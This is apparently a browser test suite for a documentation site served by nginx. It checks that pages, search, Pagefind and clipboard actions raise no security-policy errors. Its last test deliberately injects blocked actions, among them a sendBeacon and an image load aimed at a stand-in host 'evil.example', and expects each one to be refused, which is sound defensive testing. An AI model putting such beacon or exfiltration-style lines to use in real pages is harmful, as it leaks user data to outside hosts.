import { describe, expect, test } from 'vitest'
import { pagefindOptions } from '../../src/search/pagefind-options.ts'
import { useServer } from '../servers/use-server.ts'
import { languages, useBrowser } from './open.ts'

const place = useServer('nginx')
const open = useBrowser(() => `http://127.0.0.1:${place().http}`)

describe('under the headers of nginx a browser finds nothing to complain of', () => {
  test.each([
    '/',
    '/s/scope/',
    ...languages.flatMap(({ folder }) =>
      ['', 'ims-troubleshooting/', 'check-up/', 'checks/', 'checks/scope/'].map((path) => `/${folder}/${path}`),
    ),
  ])('on %s', async (address) => {
    const page = await open(address)
    await page.waitForLoadState('networkidle')
    expect(page.problems).toEqual([])
  })

  test.each(languages)('while one searches: $folder', async ({ folder }) => {
    const page = await open(`/${folder}/ims-troubleshooting/`)
    await page.keyboard.press('Control+k')
    await page.locator('dialog input').fill('redirect_uri')
    await page.locator('dialog [role="option"] mark').first().waitFor()
    await page.keyboard.press('ArrowDown')
    await page.keyboard.press('Enter')
    await page.keyboard.press('Control+k')
    await page.locator('dialog input').fill('zqxjkvbw')
    await page.locator('dialog .search-none li').first().waitFor()
    expect(page.workers()).toEqual([])
    expect(page.problems).toEqual([])
  })

  test('while Pagefind runs its WebAssembly, as it does on a large site', async () => {
    const page = await open('/en/')
    // As text: what runs the tests would write another import in its place.
    const found = await page.evaluate<number>(`(async () => {
      const pagefind = await import('/pagefind/pagefind.js')
      await pagefind.options(${JSON.stringify(pagefindOptions)})
      const { results } = await pagefind.search('callback')
      return results.length
    })()`)
    expect(found).toBeGreaterThan(0)
    expect(page.problems).toEqual([])
  })

  test('while one types and copies', async () => {
    const page = await open('/en/ims-troubleshooting/')
    for (const button of await page.locator('[data-do="example"]').all()) await button.click()
    const form = page.locator('check-form[check="callback-url"]')
    await form.locator('.finding-list li').first().waitFor()
    await form.locator('[data-do="link"]').click()
    await page.locator('.link-dialog').waitFor()
    await page.keyboard.press('Enter')
    await expect.poll(() => page.clipboard()).toContain('/s/callback-url/#?')
    await page.keyboard.press('Escape')
    await page.locator('theme-choice button').click()
    expect(page.problems).toEqual([])
  })

  test('while one checks a whole configuration, and takes the report along', async () => {
    const page = await open('/en/check-up/')
    await page.locator('[data-do="sample"]').click()
    await page.locator('[data-group="mend"] li').first().waitFor()
    await page.locator('[data-do="copy-markdown"]').click()
    await expect.poll(() => page.clipboard()).toContain('# Check-up')
    expect(page.problems).toEqual([])
  })

  test.each<[string, () => void]>([
    [
      'a script in the page',
      () => document.head.append(Object.assign(document.createElement('script'), { text: '1' })),
    ],
    ['text as HTML', () => Object.assign(document.body, { innerHTML: '<p>' })],
    ['another worker', () => new Worker('/theme.js')],
    ['an image of another site', () => Object.assign(new Image(), { src: 'https://evil.example/x.png' })],
    ['a message to another site', () => navigator.sendBeacon('https://evil.example/', 'typed')],
    ['a frame', () => document.body.append(Object.assign(document.createElement('iframe'), { src: '/en/' }))],
    ['a style', () => document.body.setAttribute('style', 'color: red')],
  ])('and would have: %s', async (_, smuggle) => {
    const page = await open('/en/')
    await page.evaluate(smuggle).catch(() => {})
    await expect.poll(() => page.problems.join()).toMatch(/forbids|violates|Refused|requires/)
  })
})
